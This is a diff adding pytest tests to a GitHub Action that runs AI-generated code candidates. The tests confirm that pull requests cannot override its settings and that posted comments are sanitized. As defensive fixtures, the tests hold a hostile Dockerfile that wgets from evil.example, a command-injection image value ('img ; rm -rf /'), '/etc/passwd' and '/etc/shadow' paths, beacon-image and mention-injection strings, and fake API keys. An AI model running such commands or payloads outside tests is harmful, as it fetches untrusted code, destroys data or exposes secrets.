@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import copy
 import json
+import os
+import re
 import subprocess
 from pathlib import Path
 
@@ -171,6 +173,9 @@ def git_repo(tmp_path: Path) -> Path:
     return repo
 
 
+BASE_SHA = "b" * 40
+
+
 def read_outputs(path: Path) -> dict[str, str]:
     out, lines = {}, path.read_text().splitlines()
     i = 0
@@ -186,7 +191,7 @@ def read_outputs(path: Path) -> dict[str, str]:
 def pull():
     p = payload("pull_request.labeled.payload.json")["pull_request"]
     return {"number": 1, "head": {"sha": "a" * 40, "ref": "feature", "repo": {"full_name": "Codertocat/Hello-World"}},
-            "base": {"ref": "master"}, "title": p["title"], "body": p["body"]}
+            "base": {"ref": "master", "sha": BASE_SHA}, "title": p["title"], "body": p["body"]}
 
 
 def run_gate(tmp_path, monkeypatch, server, event: dict, name: str = "issue_comment"):
@@ -212,11 +217,16 @@ def test_gate_runs_for_writers_and_posts_status(tmp_path, monkeypatch, pull):
     assert [(m, p) for m, p, _ in server.requests] == [
         ("GET", "/repos/Codertocat/Hello-World/collaborators/Codertocat/permission"),
         ("GET", "/repos/Codertocat/Hello-World/pulls/1"),
+        ("GET", f"/repos/Codertocat/Hello-World/contents/bakeoff.toml?ref={BASE_SHA}"),  # the base's, by commit
+        ("GET", f"/repos/Codertocat/Hello-World/contents/pyproject.toml?ref={BASE_SHA}"),
         ("POST", "/repos/Codertocat/Hello-World/issues/1/comments"),
     ]
-    assert "bakeoff is running on #1" in server.requests[-1][2]["body"]
+    status = server.requests[-1][2]["body"]
+    assert "bakeoff is running on #1" in status
+    assert "the workflow's inputs only" in status and "`bakeoff.toml` and `[tool.bakeoff]` are ignored" in status
     trigger = Trigger.model_validate_json((tmp_path / "trigger.json").read_text())
     assert trigger.instruction == "make hist faster" and trigger.status_comment_id is not None
+    assert trigger.base_sha == BASE_SHA and trigger.base_settings == {} and trigger.base_settings_source == ""
 
 
 def test_gate_refuses_readers_without_posting(tmp_path, monkeypatch, pull):
@@ -299,6 +309,7 @@ def test_deliver_review_posts_suggestions_and_finishes_status(tmp_path, monkeypa
     assert "return 2;" in review["body"]  # the hunk outside the PR's lines, as a diff
     status = server.requests[2][2]["body"]
     assert "| c2 🏆 | yes | 12/12 | 1 | no | 1.80x [1.60, 2.00] |" in status and "Total cost: $0.0123" in status
+    assert "This pull request's own `bakeoff.toml` and `[tool.bakeoff]` are ignored" in status
     assert outputs["conclusion"] == "success" and outputs["cost"] == "0.0123"
 
 
@@ -351,6 +362,281 @@ def test_deliver_without_winner_reports_and_proposes_nothing(tmp_path, monkeypat
     assert [m for m, _, _ in server.requests] == ["PATCH"]
     assert "could not finish" in server.requests[0][2]["body"]
     assert outputs["conclusion"] == "no-correct-candidate"
+
+
+def test_deliver_of_a_correct_but_slower_candidate_posts_no_winner_but_the_table_and_the_curve(tmp_path, monkeypatch):
+    out = write_result(tmp_path, status="not-faster")
+    report = json.loads((out / "report.json").read_text())
+    report["patch"] = PATCH  # the offered candidate's patch: never posted as a suggestion
+    report["verdict"].update(
+        winner=None, best="c2", not_faster=True,
+        reason="correct, but no candidate is faster than the original (best 0.80x [0.76, 0.95]) at 16 threads: c2 is "
+               "offered, not applied",
+        timing={"threads": 16, "threads_source": "the sandbox's CPU affinity (16 CPUs)", "curve_threads": [1, 2, 4, 8, 16],
+                "size": {"n": 8388608}, "reference_s": 0.21, "sizing": "scaled x2 until the original took 0.21 s"})
+    report["verdict"]["rows"][1].update(speedup=0.8, low=0.76, high=0.95, threads=16, curve=[
+        {"threads": 1, "speedup": 0.5}, {"threads": 2, "speedup": 0.7}, {"threads": 16, "speedup": 0.8}])
+    (out / "report.json").write_text(json.dumps(report))
+    with FakeGitHub() as server:
+        res, outputs = run_deliver(tmp_path, monkeypatch, server, "review", trigger_file(tmp_path), out)
+    assert res.exit_code == 0
+    assert [m for m, _, _ in server.requests] == ["PATCH"]  # the status comment only: no review, no suggestion
+    body = server.requests[0][2]["body"]
+    assert "bakeoff finished" in body and "**Result:** not-faster. correct, but no candidate is faster" in body
+    assert "| speedup at 16 threads | scaling |" in body and "| c2 (best, not faster) |" in body and "1:0.5 2:0.7 16:0.8" in body
+    assert "Timing: timed at 16 threads (the sandbox's CPU affinity (16 CPUs)); input n=8.38861e+06" in body
+    assert outputs["conclusion"] == "not-faster" and "not faster than the base" in outputs["winner-summary"]
+# ------------------------------------------------------------------ the PR never configures the Action
+
+# What a hostile pull request puts in its checkout: its own Dockerfile as the image (built with
+# network, outside the sandbox), a scripted model replaying a runner file, a failing test command.
+PR_CONFIG = 'n = 1\nimage = "Dockerfile"\ntest = "exit 1"\nmodel = "scripted:/etc/passwd"\n'
+BASE_CONFIG = 'n = 3\ntest = "make check"\n[model]\neditor = "openai/gpt-4o-mini"\n'
+
+
+def test_gate_reads_settings_from_the_base_commit_only(tmp_path, monkeypatch, pull):
+    contents = {(BASE_SHA, "bakeoff.toml"): BASE_CONFIG, ("a" * 40, "bakeoff.toml"): PR_CONFIG,
+                ("feature", "bakeoff.toml"): PR_CONFIG}
+    with FakeGitHub(permissions={"Codertocat": "write"}, pulls={1: pull}, contents=contents) as server:
+        result, outputs = run_gate(tmp_path, monkeypatch, server, pr_comment("/bakeoff go"))
+    assert result.exit_code == 0, result.output
+    read = [p for m, p, _ in server.requests if "/contents/" in p]
+    assert read == [f"/repos/Codertocat/Hello-World/contents/bakeoff.toml?ref={BASE_SHA}"]
+    trigger = Trigger.model_validate_json((tmp_path / "trigger.json").read_text())
+    assert trigger.base_settings == {"n": 3, "test": "make check", "model": {"editor": "openai/gpt-4o-mini"}}
+    assert trigger.base_settings_source == "bakeoff.toml on master"
+    status = server.calls("POST")[-1][2]["body"]
+    assert "Settings: the workflow's inputs and `bakeoff.toml on master`" in status
+    assert "This pull request's own `bakeoff.toml` and `[tool.bakeoff]` are ignored" in status
+
+
+def test_gate_reads_tool_bakeoff_from_the_base_pyproject(tmp_path, monkeypatch, pull):
+    contents = {(BASE_SHA, "pyproject.toml"): '[project]\nname = "x"\n[tool.bakeoff]\nrounds = 1\n'}
+    with FakeGitHub(permissions={"Codertocat": "write"}, pulls={1: pull}, contents=contents) as server:
+        result, _ = run_gate(tmp_path, monkeypatch, server, pr_comment("/bakeoff go"))
+    assert result.exit_code == 0, result.output
+    trigger = Trigger.model_validate_json((tmp_path / "trigger.json").read_text())
+    assert trigger.base_settings == {"rounds": 1}
+    assert trigger.base_settings_source == "pyproject.toml [tool.bakeoff] on master"
+
+
+def test_a_broken_base_settings_file_stops_the_gate_without_quoting_it(tmp_path, monkeypatch, pull):
+    contents = {(BASE_SHA, "bakeoff.toml"): 'n = 3\nnote = "hunter2-do-not-print\n'}  # an unclosed string
+    with FakeGitHub(permissions={"Codertocat": "write"}, pulls={1: pull}, contents=contents) as server:
+        result, outputs = run_gate(tmp_path, monkeypatch, server, pr_comment("/bakeoff go"))
+    assert result.exit_code == 0 and outputs["run"] == "false"
+    assert "bakeoff.toml on master is not valid TOML (at line 2" in outputs["reason"]
+    (comment,) = [b["body"] for m, p, b in server.requests if m == "POST"]
+    assert "could not finish" in comment and "not valid TOML" in comment
+    assert "hunter2" not in comment + result.output + outputs["reason"]
+    assert not (tmp_path / "trigger.json").exists()
+
+
+def pr_checkout(tmp_path: Path) -> Path:
+    """A PR's checkout whose own settings (bakeoff.toml and [tool.bakeoff]) are hostile."""
+    from tests.test_session import make_repo
+
+    repo = make_repo(tmp_path / "pr", extra_config="")
+    (repo / "bakeoff.toml").write_text(PR_CONFIG)
+    (repo / "pyproject.toml").write_text('[tool.bakeoff]\nn = 1\nimage = "Dockerfile"\n')
+    (repo / "Dockerfile").write_text("FROM alpine\nRUN wget http://evil.example/x\n")
+    subprocess.run(["git", "-C", str(repo), "add", "-A"], check=True)
+    subprocess.run(["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "pr"],
+                   check=True)
+    return repo
+
+
+def base_trigger(base: dict, source: str = "bakeoff.toml on main") -> Trigger:
+    return Trigger(event="issue_comment", repo="o/r", pr=1, actor="a", instruction="make total faster",
+                   base_settings=base, base_settings_source=source)
+
+
+def test_action_settings_never_read_the_checkout(tmp_path):
+    from bakeoff.agent.github.settings import action_settings
+
+    pr_checkout(tmp_path)
+    base = {"n": 2, "rounds": 0, "test": "python3 check.py", "model": {"editor": "openai/gpt-4o-mini"}}
+    settings, provenance = action_settings(base_trigger(base), {"BAKEOFF_BUDGET_USD": "1.5"}, {"model": "openai/gpt-4o"})
+    assert (settings.n, settings.rounds, settings.test, settings.image) == (2, 0, "python3 check.py", None)
+    assert settings.model.default == "openai/gpt-4o" and settings.model.editor == "openai/gpt-4o-mini"
+    assert settings.budget_usd == 1.5
+    assert provenance["n"] == "bakeoff.toml on main" and provenance["budget_usd"] == "env BAKEOFF_BUDGET_USD"
+    assert "bakeoff.toml" not in {provenance[k] for k in provenance}  # never the checkout's file
+
+
+def invoke_run(tmp_path: Path, monkeypatch, trigger: Trigger, *args: str):
+    for var in [v for v in os.environ if v.startswith("BAKEOFF_")] + ["GITHUB_TOKEN"]:
+        monkeypatch.delenv(var, raising=False)
+    path = tmp_path / "trigger.json"
+    path.write_text(trigger.model_dump_json())
+    return CliRunner().invoke(action_app, ["run", "--trigger", str(path), "--repo", str(tmp_path / "pr"),
+                                           "--out", str(tmp_path / "out"), *args])
+
+
+@pytest.mark.parametrize("image", ["Dockerfile", "./Dockerfile", "docker/Dockerfile.sandbox", "/etc/shadow",
+                                   "../../Dockerfile", "Python:3.12", "img ; rm -rf /"])
+def test_run_builds_no_dockerfile_whatever_the_settings_say(tmp_path, monkeypatch, image):
+    pr_checkout(tmp_path)
+    result = invoke_run(tmp_path, monkeypatch, base_trigger({"image": image}), "--model", "openai/gpt-4o")
+    assert result.exit_code == 2, result.output
+    assert "a Dockerfile is never built there" in result.output and "bakeoff.toml on main" in result.output
+    assert not (tmp_path / "out").exists()
+
+
+def test_run_accepts_an_image_reference(tmp_path):
+    from bakeoff.agent.github.settings import action_settings
+
+    for image in ("python:3.12-slim", "ghcr.io/org/sandbox:v1", "localhost:5000/a/b@sha256:" + "0" * 64):
+        assert action_settings(base_trigger({"image": image}), {}, {"model": "openai/gpt-4o"})[0].image == image
+
+
+def test_run_refuses_scripted_models_the_workflow_did_not_enable(tmp_path, monkeypatch):
+    pr_checkout(tmp_path)
+    by_flag = invoke_run(tmp_path, monkeypatch, base_trigger({}), "--model", "scripted:/etc/passwd")
+    assert by_flag.exit_code == 2 and "allow-scripted-model: true" in by_flag.output
+    by_base = invoke_run(tmp_path, monkeypatch, base_trigger({"model": {"editor": "scripted:/etc/passwd"}}),
+                         "--model", "openai/gpt-4o", "--allow-scripted-model")
+    assert by_base.exit_code == 2 and "the workflow itself must name it" in by_base.output
+    assert "bakeoff.toml on main" in by_base.output
+    for result in (by_flag, by_base):
+        assert "root:" not in result.output  # the file is named, never read
+
+
+def test_a_scripted_file_that_is_not_a_script_is_not_quoted(tmp_path, monkeypatch):
+    pr_checkout(tmp_path)
+    secret = tmp_path / "runner-secret.txt"
+    secret.write_text("hunter2-runner-secret\n")
+    result = invoke_run(tmp_path, monkeypatch, base_trigger({"sandbox": "local"}), "--sandbox", "local",
+                        "--model", f"scripted:{secret}", "--allow-scripted-model")
+    assert result.exit_code == 1
+    assert "ScriptFileError" in result.output and "hunter2" not in result.output
+
+
+@pytest.mark.slow
+def test_run_step_end_to_end_uses_the_base_settings_not_the_prs(tmp_path):
+    """The real CLI on a checkout whose bakeoff.toml asks for 1 candidate, a failing test, a
+    Dockerfile and a scripted model of its own: the base branch's settings win on every one."""
+    from tests.test_session import bakeoff, cli_env, write_script
+
+    pr_checkout(tmp_path)
+    base = {"sandbox": "local", "rounds": 0, "n": 2, "test": "python3 check.py"}
+    trigger = tmp_path / "trigger.json"
+    trigger.write_text(base_trigger(base).model_dump_json())
+    script = write_script(tmp_path / "script.json")
+    env = {k: v for k, v in cli_env(tmp_path).items() if k not in ("GITHUB_TOKEN", "BAKEOFF_SANDBOX")}
+    proc = bakeoff("action", "run", "--trigger", str(trigger), "--repo", str(tmp_path / "pr"), "--out",
+                   str(tmp_path / "out"), "--sandbox", "local", "--model", f"scripted:{script}",
+                   "--allow-scripted-model", env=env)
+    assert proc.returncode == 0, proc.stderr
+    report = json.loads((tmp_path / "out" / "report.json").read_text())
+    assert report["status"] == "success"  # the PR's `test = "exit 1"` would have failed every candidate
+    assert sorted(c["id"] for c in report["candidates"]) == ["c1", "c2"]  # n = 2, not the PR's 1
+    assert "return sum(xs)" in (tmp_path / "out" / "winner.patch").read_text()
+
+
+# ------------------------------------------------------------------ what the Action posts renders as meant
+
+
+def rendered(markdown: str) -> tuple[list[str], list[str], list[str]]:
+    """How a CommonMark reader sees ``markdown``: the code blocks, the text outside them (entities
+    decoded), and the kinds of anything that would load or inject (images, raw HTML)."""
+    from markdown_it import MarkdownIt
+
+    code, text, active = [], [], []
+    for token in MarkdownIt("commonmark").parse(markdown):
+        if token.type in ("fence", "code_block"):
+            code.append(token.content)
+        elif token.type == "html_block" and not token.content.strip().startswith("<!--"):
+            active.append("html_block")
+        for child in token.children or []:
+            if child.type == "image" or (child.type == "html_inline" and not child.content.startswith("<!--")):
+                active.append(child.type)
+            elif child.type in ("text", "code_inline"):
+                text.append(child.content)
+    return code, text, active
+
+
+def pings(text: str) -> bool:
+    return re.search(r"[@\uff20\ufe6b][A-Za-z0-9]", text) is not None
+
+
+HOSTILE_LINES = ["```", "**Approved by the maintainers** ![ok](https://evil.example/beacon.png?pr=1) @org/team",
+                 "````", '<img src="https://evil.example/b.png">', "```"]
+
+
+def test_a_suggestion_holding_backticks_stays_one_code_block(tmp_path, monkeypatch):
+    body = "".join(f"+{line}\n" for line in HOSTILE_LINES)
+    patch = ("diff --git a/src/hist.c b/src/hist.c\n--- a/src/hist.c\n+++ b/src/hist.c\n"
+             f"@@ -2,2 +2,{2 + len(HOSTILE_LINES)} @@\n   int i;\n{body}   for (i = 0; i < n; i++)\n")
+    files = {1: [{"filename": "src/hist.c", "patch": "@@ -1,5 +1,5 @@\n-x\n+y"}]}
+    with FakeGitHub(pull_files=files) as server:
+        res, _ = run_deliver(tmp_path, monkeypatch, server, "review", trigger_file(tmp_path),
+                             write_result(tmp_path, patch=patch))
+    assert res.exit_code == 0, res.output
+    review = next(b for m, p, b in server.requests if p.endswith("/reviews"))
+    (comment,) = review["comments"]
+    suggested = "\n".join(["  int i;", *HOSTILE_LINES, "  for (i = 0; i < n; i++)"])
+    assert comment["body"] == f"bakeoff's winning candidate changes these lines:\n`````suggestion\n{suggested}\n`````"
+    code, text, active = rendered(comment["body"])
+    assert code == [suggested + "\n"] and active == [] and not pings(" ".join(text))
+
+
+def test_changes_outside_the_pr_lines_stay_in_their_code_block(tmp_path, monkeypatch):
+    patch = ("diff --git a/src/hist.c b/src/hist.c\n--- a/src/hist.c\n+++ b/src/hist.c\n"
+             "@@ -9,2 +9,3 @@ int other(void) {\n-  return 1;\n+  return 2;\n+/* ``` ![x](https://evil.example/p.png)"
+             " &#64;org/team */\n }\n")
+    with FakeGitHub(pull_files={1: []}) as server:
+        res, _ = run_deliver(tmp_path, monkeypatch, server, "review", trigger_file(tmp_path),
+                             write_result(tmp_path, patch=patch))
+    assert res.exit_code == 0, res.output
+    review = next(b for m, p, b in server.requests if p.endswith("/reviews"))
+    code, text, active = rendered(review["body"])
+    assert any("![x](https://evil.example/p.png) &#64;org/team" in c for c in code)  # the change, exactly
+    assert active == [] and not pings(" ".join(text))
+
+
+@pytest.mark.parametrize("text", [
+    "cc @org/team", "cc &#64;org/team", "cc &#x40;org/team", "cc &#X0040;org", "cc &commat;org/team",
+    "cc \uff20org/team", "cc \ufe6borg", "cc &#65312;org", "cc @&#111;rg/team", "cc @<!-- -->org",
+    "![beacon](https://evil.example/b.png)", "![beacon][r]\n\n[r]: https://evil.example/b.png",
+    '<img src="https://evil.example/b.png">', "<picture><source srcset=https://evil.example/b.png></picture>",
+    "text\n```\n\n```\n@org/team ![b](https://evil.example/b.png)\n```",
+    "- item\n\n  ```\n  code\n@org/team ![b](https://evil.example/b.png)\n```",
+    " ```\n```\n@org/team ![b](https://evil.example/b.png)\n```",
+    "<div>\n```\n@org/team\n```\n</div>",
+    "> ```\n@org/team\n```",
+    "~~~\n```\n~~~\n@org/team ![b](https://evil.example/b.png)\n```",
+    "a\r```\n@org/team\r```\r@org/team",
+])
+def test_sanitized_text_pings_no_one_and_loads_nothing(text):
+    clean = sanitize(text, environ={})
+    code, prose, active = rendered(clean)
+    assert active == [] and not pings(" ".join(prose)), (clean, prose, active)
+
+
+def test_code_blocks_keep_their_code_exactly():
+    text = "Proposed:\n````suggestion\n@functools.cache\ndef f(x):  # a@b.com, ![not](an image)\n```\n````\n"
+    assert sanitize(text, environ={}) == text
+
+
+@pytest.mark.parametrize("secret", [
+    "hf_" + "aBcD1234" * 4 + "xy",  # Hugging Face
+    "api_org_" + "aBcD1234" * 4,
+    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",  # AWS secret access key
+    "AKIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE",  # AWS key ids
+    "ghp_" + "a" * 36, "github_pat_" + "A1" * 20, "sk-proj-" + "x" * 24, "glpat-" + "x" * 20,
+    "xoxb-1234567890-abcdef", "AIza" + "b" * 35, "npm_" + "c" * 36,
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+])
+def test_sanitize_redacts_keys_in_prose_and_in_code(secret):
+    for text in (f"the key is {secret} here", f"```python\nKEY = '{secret}'\n```"):
+        clean = sanitize(text, environ={})
+        assert secret not in clean and "[redacted]" in clean
+
+
+def test_sanitize_leaves_commit_ids_and_ordinary_code_alone():
+    text = "base a94a8fe5ccb19ba61c4c0873d391e987982fbbd3, tree 0123456789abcdef0123456789abcdef01234567"
+    assert sanitize(text, environ={}) == text
 
 
 # ------------------------------------------------------------------ the composite action itself
